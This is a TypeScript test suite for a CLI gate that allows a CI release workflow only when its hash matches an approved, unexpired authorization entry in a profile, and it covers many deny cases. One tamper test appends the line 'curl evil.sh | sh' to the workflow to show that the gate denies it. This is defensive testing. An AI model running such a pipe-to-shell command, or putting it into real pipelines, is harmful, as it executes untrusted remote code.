import { after, afterEach, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import { pecsGate, registerPecsGateCommand, type GateCommandOptions } from '../../../src/cli/commands/pecs-gate.ts';
import type { PecsDocument } from '../../../src/pecs/document.ts';
import type { GateDecision } from '../../../src/pecs/gate/evaluate-gate.ts';
import { GATE_REASONS } from '../../../src/pecs/gate/gate-reasons.ts';
import { runGate } from '../../../src/pecs/gate/run-gate.ts';
import { workflowDefinitionHash } from '../../../src/pecs/workflow-hash.ts';
import { approvedEntry, deleteAt, matureProfile, setAt } from '../assess/fixtures.ts';
import { captureContext } from '../../policy/helpers/capture-context.ts';

const NOW = '2026-06-01T00:00:00Z';
const ENTRY = '/authorizationArtifacts/0/entries/0';
const WORKFLOW = 'name: release\non:\n  push:\n    tags: ["v*"]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment: production\n    steps:\n      - run: ./deploy.sh\n';
const DIGEST = workflowDefinitionHash(new TextEncoder().encode(WORKFLOW));

const dirs: string[] = [];
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});
afterEach(() => {
  process.exitCode = undefined;
});

/** A repository (a `.git` directory) with the release workflow and a profile approving its digest. */
function repo(edit: (profile: PecsDocument) => unknown = () => undefined): { root: string; profile: string; workflow: string } {
  const root = mkdtempSync(join(tmpdir(), 'writ-pecs-gate-'));
  dirs.push(root);
  mkdirSync(join(root, '.git'));
  mkdirSync(join(root, '.github', 'workflows'), { recursive: true });
  const workflow = join(root, '.github', 'workflows', 'release.yml');
  writeFileSync(workflow, WORKFLOW);
  const doc = matureProfile();
  setAt(doc, '/privilegedExecutionSurface/0/integrityBinding/digest', DIGEST);
  setAt(doc, `${ENTRY}/integrityBinding/digest`, DIGEST);
  setAt(doc, '/evidence/0/hash/digest', DIGEST);
  edit(doc);
  const profile = join(root, 'pecs.json');
  writeFileSync(profile, JSON.stringify(doc, null, 2));
  return { root, profile, workflow };
}

/** Runs the command with --json and returns the exit code and the decision. */
function gate(opts: Partial<GateCommandOptions> & { profile: string; workflow: string }, env: NodeJS.ProcessEnv = {}): { code: number; d: GateDecision } {
  const { ctx, stdout } = captureContext(true);
  ctx.env = env;
  const code = pecsGate(ctx, { entryPoint: 'deploy-production', now: NOW, ...opts });
  return { code, d: JSON.parse(stdout()) as GateDecision };
}

test('allow: approved entry, digest equal, workflowRef matches the repo-relative path, job and environment match', () => {
  const r = repo();
  const { code, d } = gate({ profile: r.profile, workflow: r.workflow, requireApproval: true, job: 'deploy', environment: 'production' });
  assert.equal(code, 0);
  assert.deepEqual(
    { allowed: d.allowed, reason: d.reason, entryId: d.entryId, path: d.workflow.path, digest: d.workflow.digest },
    { allowed: true, reason: 'ALLOWED', entryId: 'deploy-production-approved', path: '.github/workflows/release.yml', digest: DIGEST },
  );
  // The human form says ALLOW.
  const human = captureContext(false);
  assert.equal(pecsGate(human.ctx, { profile: r.profile, workflow: r.workflow, entryPoint: 'deploy-production', now: NOW }), 0);
  assert.match(human.stdout(), /^ALLOW deploy-production: entry deploy-production-approved approves \.github\/workflows\/release\.yml at [0-9a-f]{64}$/m);
});

test('allow: a conditional entry passes without --require-approval; a GITHUB_WORKFLOW_REF-style workflowRef matches', () => {
  const r = repo((p) => {
    setAt(p, `${ENTRY}/approvalStatus`, 'conditional');
    setAt(p, `${ENTRY}/pipelineBinding/workflowRef`, 'acme/shop/.github/workflows/release.yml@refs/tags/v1.2.0');
  });
  assert.equal(gate({ profile: r.profile, workflow: r.workflow }).code, 0);
  // …but not with --require-approval.
  const strict = gate({ profile: r.profile, workflow: r.workflow, requireApproval: true });
  assert.deepEqual([strict.code, strict.d.reason, strict.d.allowed], [1, 'NOT_APPROVED', false]);
});

const DENIES: Array<{ reason: keyof typeof GATE_REASONS; name: string; edit?: (p: PecsDocument) => unknown; opts?: Partial<GateCommandOptions>; env?: NodeJS.ProcessEnv; workflowBytes?: string; message: RegExp }> = [
  { reason: 'ENTRY_POINT_UNKNOWN', name: 'unknown entry point', opts: { entryPoint: 'deploy-staging' }, message: /no entry point deploy-staging/ },
  { reason: 'NO_AUTHORIZATION', name: 'no entry names it', edit: (p) => deleteAt(p, '/authorizationArtifacts'), message: /no authorization entry/ },
  { reason: 'NOT_APPROVED', name: 'draft entry', edit: (p) => setAt(p, `${ENTRY}/approvalStatus`, 'draft'), message: /approvalStatus draft/ },
  { reason: 'NOT_APPROVED', name: 'revoked entry', edit: (p) => setAt(p, `${ENTRY}/approvalStatus`, 'revoked'), message: /approvalStatus revoked/ },
  { reason: 'EXPIRED', name: 'expiresAt before now', edit: (p) => setAt(p, `${ENTRY}/expiresAt`, '2026-05-31T00:00:00Z'), message: /expired at 2026-05-31/ },
  { reason: 'EXPIRED', name: 'expiresAt equal to now', edit: (p) => setAt(p, `${ENTRY}/expiresAt`, NOW), message: /expired at/ },
  { reason: 'EXPIRED', name: 'status expired', edit: (p) => setAt(p, `${ENTRY}/approvalStatus`, 'expired'), message: /approvalStatus expired/ },
  { reason: 'DIGEST_MISMATCH', name: 'workflow edited after approval', workflowBytes: `${WORKFLOW}      - run: curl evil.sh | sh\n`, message: /hashes to [0-9a-f]{64}, entry deploy-production-approved approves/ },
  {
    reason: 'DIGEST_MISMATCH',
    name: "entry point's own binding differs",
    edit: (p) => setAt(p, '/privilegedExecutionSurface/0/integrityBinding/digest', 'd4'.repeat(32)),
    message: /entry point deploy-production is bound to d4d4/,
  },
  { reason: 'DIGEST_MISMATCH', name: 'entry binds no integrity', edit: (p) => deleteAt(p, `${ENTRY}/integrityBinding`), message: /no integrity binding/ },
  { reason: 'DIGEST_MISMATCH', name: 'entry binds an artifact digest', edit: (p) => setAt(p, `${ENTRY}/integrityBinding/type`, 'artifact-digest'), message: /not a workflow-definition-hash/ },
  { reason: 'PIPELINE_MISMATCH', name: 'workflowRef names another file', edit: (p) => setAt(p, `${ENTRY}/pipelineBinding/workflowRef`, '.github/workflows/other.yml'), message: /bound to workflow \.github\/workflows\/other\.yml/ },
  { reason: 'PIPELINE_MISMATCH', name: 'a bare basename is not enough', edit: (p) => setAt(p, `${ENTRY}/pipelineBinding/workflowRef`, 'release.yml'), message: /bound to workflow release\.yml/ },
  { reason: 'PIPELINE_MISMATCH', name: 'no pipeline binding', edit: (p) => deleteAt(p, `${ENTRY}/pipelineBinding`), message: /no pipelineBinding/ },
  { reason: 'PIPELINE_MISMATCH', name: '--job differs from jobRef', opts: { job: 'build' }, message: /bound to job deploy, not build/ },
  { reason: 'PIPELINE_MISMATCH', name: 'GITHUB_JOB differs from jobRef', env: { GITHUB_JOB: 'lint' }, message: /not lint/ },
  { reason: 'PIPELINE_MISMATCH', name: 'GITHUB_ENVIRONMENT differs', env: { GITHUB_ENVIRONMENT: 'staging' }, message: /bound to environment production, not staging/ },
  { reason: 'PROFILE_INVALID', name: 'invalid profile', edit: (p) => setAt(p, '/privilegedExecutionSurface/0/riskLevel', 'extreme'), message: /not a valid PECS document: \/privilegedExecutionSurface\/0\/riskLevel/ },
  { reason: 'INVALID_ARGUMENT', name: 'bad --now', opts: { now: 'yesterday' }, message: /--now/ },
];

for (const c of DENIES) {
  test(`deny ${c.reason}: ${c.name}`, () => {
    const r = repo(c.edit);
    if (c.workflowBytes !== undefined) writeFileSync(r.workflow, c.workflowBytes);
    const { code, d } = gate({ profile: r.profile, workflow: r.workflow, ...c.opts }, c.env);
    assert.equal(code, 1);
    assert.equal(d.allowed, false);
    assert.equal(d.reason, c.reason);
    assert.match(d.message, c.message);
  });
}

test('deny PROFILE_UNREADABLE / WORKFLOW_UNREADABLE', () => {
  const r = repo();
  const noProfile = gate({ profile: join(r.root, 'missing.json'), workflow: r.workflow });
  assert.deepEqual([noProfile.code, noProfile.d.reason], [1, 'PROFILE_UNREADABLE']);
  writeFileSync(join(r.root, 'broken.yaml'), 'a: [1, 2\n');
  const broken = gate({ profile: join(r.root, 'broken.yaml'), workflow: r.workflow });
  assert.deepEqual([broken.code, broken.d.reason], [1, 'PROFILE_UNREADABLE']);
  const noWorkflow = gate({ profile: r.profile, workflow: join(r.root, '.github', 'workflows', 'gone.yml') });
  assert.deepEqual([noWorkflow.code, noWorkflow.d.reason], [1, 'WORKFLOW_UNREADABLE']);
});

test('one matching entry among failing ones allows; otherwise the furthest failure is reported', () => {
  const r = repo((p) => {
    const draft = approvedEntry('deploy-production', DIGEST, 'old-draft');
    draft.approvalStatus = 'draft';
    (p.authorizationArtifacts?.[0]?.entries as unknown[]).unshift(draft);
  });
  assert.equal(gate({ profile: r.profile, workflow: r.workflow }).code, 0);
  // With the good entry gone stale by digest, the digest failure (furthest) is reported, not the draft.
  const stale = repo((p) => {
    const draft = approvedEntry('deploy-production', DIGEST, 'old-draft');
    draft.approvalStatus = 'draft';
    (p.authorizationArtifacts?.[0]?.entries as unknown[]).unshift(draft);
    setAt(p, '/authorizationArtifacts/0/entries/1/integrityBinding/digest', 'e5'.repeat(32));
  });
  const d = gate({ profile: stale.profile, workflow: stale.workflow }).d;
  assert.deepEqual([d.reason, d.entryId], ['DIGEST_MISMATCH', 'deploy-production-approved']);
});

test('fail-closed: an unexpected error is an INTERNAL_ERROR deny, never an allow', () => {
  const r = repo();
  const d = runGate({ profilePath: r.profile, entryPointId: 'deploy-production', workflowPath: r.workflow, requireApproval: false, now: undefined as unknown as Date });
  assert.deepEqual([d.allowed, d.reason], [false, 'INTERNAL_ERROR']);
});

test('registered as `pecs gate`: deny sets exit code 1, allow leaves 0, a missing option never passes', async () => {
  const r = repo();
  const { ctx } = captureContext(true);
  const run = async (args: string[]) => {
    const program = new Command().exitOverride();
    const pecs = program.command('pecs').exitOverride();
    registerPecsGateCommand(pecs, () => ctx).exitOverride();
    process.exitCode = undefined;
    await program.parseAsync(['node', 'writ', 'pecs', 'gate', ...args]);
    return process.exitCode;
  };
  assert.equal(await run(['--profile', r.profile, '--entry-point', 'deploy-production', '--workflow', r.workflow, '--now', NOW]), undefined);
  assert.equal(await run(['--profile', r.profile, '--entry-point', 'nope', '--workflow', r.workflow, '--now', NOW]), 1);
  await assert.rejects(run(['--profile', r.profile, '--workflow', r.workflow]), /entry-point/);
});
